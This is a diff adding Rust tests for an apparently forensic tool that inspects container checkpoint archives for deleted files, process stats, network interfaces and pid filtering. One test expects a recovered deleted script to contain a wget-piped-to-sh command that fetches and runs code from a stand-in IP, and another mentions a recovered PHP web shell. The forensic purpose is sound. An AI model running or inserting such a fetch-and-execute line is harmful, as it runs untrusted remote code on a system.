@@ -258,3 +258,123 @@ fn a_directory_that_is_not_a_checkpoint_says_so() {
     let err = support::stderr(&out);
     assert!(err.contains("not a checkpoint") && !err.contains("symlink"), "{err}");
 }
+
+#[test]
+fn genuine_ghost_files_are_recovered_with_their_holders() {
+    // containerd 2.x: the deleted /tmp/payload.sh, still open on fd 3 of two processes
+    let out = scratch("ghosts");
+    let o = analyze(true, &[&containerd2(), "--deleted", "--extract-deleted", "/tmp/payload.sh", "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let d = &r["deleted"][0];
+    assert_eq!(d["path"], "/tmp/payload.sh");
+    let fd3: Vec<&Value> = d["holders"].as_array().unwrap().iter().filter(|h| h["as"] == "fd" && h["fd"] == 3).collect();
+    assert_eq!(fd3.len(), 2, "{d:#}");
+    let written = r["extracted_deleted"][0]["written"].as_str().unwrap();
+    assert_eq!(std::fs::read_to_string(written).unwrap(), "#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n");
+    assert_eq!(r["summary"]["ghost_files"], 1);
+
+    // CRI-O: the web shell renamed to /tmp/.s before it was deleted, recovered under that name
+    let o = analyze(true, &[&crio(), "--extract-deleted", "--all", "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let w = &r["extracted_deleted"][0];
+    assert_eq!(w["path"], "/tmp/.s");
+    assert!(std::fs::read_to_string(w["written"].as_str().unwrap()).unwrap().contains("<?php"), "{w}");
+}
+
+#[test]
+fn a_malformed_ghost_image_is_one_error_line_and_the_other_views_still_print() {
+    let dir = scratch("ghost-cut");
+    let cut = dir.join("cut.tar");
+    // the ghost entry claims 4 GiB
+    rebuild(&containerd2(), &cut, |name, mut b| {
+        if name.ends_with("ghost-file-1.img") {
+            b[8..12].copy_from_slice(&u32::MAX.to_le_bytes());
+        }
+        Some(b)
+    });
+    let o = analyze(true, &[cut.to_str().unwrap(), "--deleted", "--ps-tree"]);
+    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(!r["processes"].as_array().unwrap().is_empty());
+    assert_eq!(r["deleted"], serde_json::json!([]));
+    let err = support::stderr(&o);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.contains("ghost-file-1.img"), "{err}");
+}
+
+#[test]
+fn stats_come_from_criu_and_network_from_podmans_network_status() {
+    let o = analyze(true, &[&containerd2(), "--stats"]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let st = &r["stats"];
+    assert!(st["frozen_time_us"].as_u64().unwrap() > 0, "{st}");
+    assert!(st["pages_written"].as_u64().unwrap() > 0 && st["pages_scanned"].as_u64() >= st["pages_written"].as_u64(), "{st}");
+    let t = support::stdout(&analyze(false, &[&containerd2(), "--stats"]));
+    assert!(t.contains("frozen time") && t.contains(" ms"), "{t}");
+
+    // Podman writes network.status (netavark: network → interfaces); two networks
+    let dir = scratch("network");
+    let podman = dir.join("podman.tar");
+    let status = br#"{"podman":{"interfaces":{"eth0":{"subnets":[{"ipnet":"10.88.0.9/16","gateway":"10.88.0.1"}],"mac_address":"6e:1f:09:aa:bb:cc"}}},"backend":{"interfaces":{"eth1":{"subnets":[{"ipnet":"10.89.1.4/24","gateway":"10.89.1.1"}],"mac_address":"6e:1f:09:dd:ee:ff"}}}}"#;
+    rebuild_adding(&containerd2(), &podman, |_, b| Some(b), &[("network.status", status)]);
+    let r: Value = serde_json::from_slice(&analyze(true, &[podman.to_str().unwrap(), "--network"]).stdout).unwrap();
+    let n = r["network"].as_array().unwrap();
+    assert_eq!(n.len(), 2, "{n:#?}");
+    let eth1 = n.iter().find(|i| i["interface"] == "eth1").unwrap();
+    assert_eq!(eth1["network"], "backend");
+    assert_eq!(eth1["addresses"], serde_json::json!(["10.89.1.4/24"]));
+    assert_eq!(eth1["mac"], "6e:1f:09:dd:ee:ff");
+    // an archive without one says so, and the other views still print (exit 3)
+    let o = analyze(true, &[&crio(), "--network", "--stats"]);
+    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
+    assert!(support::stderr(&o).contains("network.status"), "{}", support::stderr(&o));
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(r["stats"]["pages_written"].as_u64().unwrap() > 0);
+}
+
+#[test]
+fn pid_filters_every_per_process_view() {
+    let o = analyze(true, &[&containerd2(), "--ps-tree", "--files", "--sockets", "--deleted"]);
+    let all: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let pids: std::collections::BTreeSet<u64> = all["processes"].as_array().unwrap().iter().map(|p| p["pid"].as_u64().unwrap()).collect();
+    assert!(pids.len() > 1, "{pids:?}");
+    let other = *pids.iter().find(|&&p| p != 1).unwrap();
+    let o = analyze(true, &[&containerd2(), "--ps-tree", "--files", "--sockets", "--deleted", "--pid", &other.to_string()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let one: Value = serde_json::from_slice(&o.stdout).unwrap();
+    for view in ["processes", "files", "sockets"] {
+        assert!(one[view].as_array().unwrap().iter().all(|x| x["pid"] == other), "{view}: {}", one[view]);
+    }
+    assert_eq!(one["processes"].as_array().unwrap().len(), 1);
+    assert!(!one["files"].as_array().unwrap().is_empty());
+    for d in one["deleted"].as_array().unwrap() {
+        assert!(d["holders"].as_array().unwrap().iter().any(|h| h["pid"] == other), "{d}");
+    }
+    let o = analyze(false, &[&containerd2(), "--files", "--pid", "99999"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(support::stderr(&o).contains("--pid 99999"), "{}", support::stderr(&o));
+}
+
+#[test]
+fn several_archives_give_one_section_each_and_one_json_array() {
+    let o = analyze(true, &[&containerd2(), &crio()]);
+    assert!(o.status.success(), "{}", support::stderr(&o));
+    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let docs = v.as_array().unwrap();
+    assert_eq!(docs.len(), 2);
+    assert_eq!(docs[0]["kind"], "AnalyzeReport");
+    assert_eq!(docs[0]["summary"]["engine"], "containerd");
+    assert_eq!(docs[1]["summary"]["engine"], "cri-o");
+    let t = support::stdout(&analyze(false, &[&containerd2(), &crio(), "--ps-tree"]));
+    assert!(t.contains("== ") && t.contains("kubelet-containerd2-cart.tar ==") && t.contains("crio-1.37-web.tar =="), "{t}");
+    // one that is not a checkpoint: an error line, the others still printed, exit 3
+    let bogus = scratch("bogus").join("notes.txt");
+    std::fs::write(&bogus, "hello").unwrap();
+    let o = analyze(true, &[&containerd2(), bogus.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(3), "{}", support::stderr(&o));
+    assert_eq!(serde_json::from_slice::<Value>(&o.stdout).unwrap().as_array().unwrap().len(), 1);
+    assert!(support::stderr(&o).contains("not a checkpoint"), "{}", support::stderr(&o));
+}
